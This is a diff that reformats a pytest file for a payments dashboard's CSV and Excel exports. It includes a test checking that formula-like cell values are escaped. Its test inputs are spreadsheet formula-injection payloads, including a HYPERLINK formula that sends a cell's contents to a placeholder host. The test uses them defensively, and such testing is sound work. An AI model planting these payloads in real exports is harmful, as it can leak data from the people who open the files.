@@ -60,9 +60,7 @@ def test_a_viewer_may_not_export(app: Flask) -> None:
 
 
 @pytest.mark.parametrize("query", FILTERS)
-def test_export_has_the_rows_of_the_list(
-    finance: FlaskClient, database: Database[dict[str, Any]], query: str
-) -> None:
+def test_export_has_the_rows_of_the_list(finance: FlaskClient, database: Database[dict[str, Any]], query: str) -> None:
     database.payments.insert_many(stored.mixed(130))
     arguments = dict(part.split("=") for part in query.split("&") if part)
     expected = walk(finance, **arguments, sort="oldest")
@@ -70,9 +68,7 @@ def test_export_has_the_rows_of_the_list(
     assert [row["payment_id"] for row in rows] == expected
 
 
-def test_columns_are_stable_and_values_exact(
-    finance: FlaskClient, database: Database[dict[str, Any]]
-) -> None:
+def test_columns_are_stable_and_values_exact(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
     tried = [stored.attempt("failed", "do_not_honor", "authenticated"), stored.attempt("succeeded")]
     made = stored.payment(
         1, currency="kwd", amount=1230, refunds=[stored.refund(1, amount=230, currency="kwd")],
@@ -94,10 +90,7 @@ def test_columns_are_stable_and_values_exact(
 @pytest.mark.parametrize(
     ("text", "filed"),
     [
-        *(
-            (text, f"'{text}")
-            for text in ("=1+1", "+1", "-1", "@SUM(A1)", "  =1", "＝1", "＋1", "－1", "＠a")
-        ),
+        *((text, f"'{text}") for text in ("=1+1", "+1", "-1", "@SUM(A1)", "  =1", "＝1", "＋1", "－1", "＠a")),
         *(("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1"), ("\ta", "'\ta")),
         ('a;=HYPERLINK("http://x?"&A1);b', 'a;\'=HYPERLINK("http://x?"&A1);b'),
         ('a; "=1";-b|+c', "a;' \"=1\";'-b|'+c"),
@@ -112,9 +105,7 @@ def test_a_text_that_looks_like_a_formula_is_escaped(
     (row,) = rows_of(finance.get(PATH).text)
     assert row["order_id"] == row["description"] == filed
     cells = sheet(download(finance, "payments.xlsx"))
-    assert ("inlineStr", text.replace("\r", "_x000D_")) == cells[1]["I"] or cells[1]["I"][
-        1
-    ].strip() == text.strip()
+    assert ("inlineStr", text.replace("\r", "_x000D_")) == cells[1]["I"] or cells[1]["I"][1].strip() == text.strip()
 
 
 def test_numbers_are_never_marked_as_text(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
@@ -125,9 +116,7 @@ def test_numbers_are_never_marked_as_text(finance: FlaskClient, database: Databa
     assert (row["net_minor"], row["net"], row["gross"]) == ("-500", "-5.00", "0.00")
 
 
-def test_a_workbook_has_real_numbers_and_dates(
-    finance: FlaskClient, database: Database[dict[str, Any]]
-) -> None:
+def test_a_workbook_has_real_numbers_and_dates(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
     database.payments.insert_many([stored.payment(1, amount=123456)])
     answer = finance.get("/dashboard/payments.xlsx", buffered=True)
     assert answer.headers["Content-Disposition"] == "attachment; filename=payments_all.xlsx"
@@ -141,9 +130,7 @@ def test_a_workbook_has_real_numbers_and_dates(
     assert row[letters["card_last4"]] == ("inlineStr", "4242")
 
 
-def test_exports_of_refunds_disputes_and_figures(
-    finance: FlaskClient, database: Database[dict[str, Any]]
-) -> None:
+def test_exports_of_refunds_disputes_and_figures(finance: FlaskClient, database: Database[dict[str, Any]]) -> None:
     database.payments.insert_many(stored.mixed(130))
     (*refunds,) = rows_of(finance.get("/dashboard/refunds.csv").text)
     assert len(refunds) == len([p for p in stored.mixed(130) if p["refunds"]])
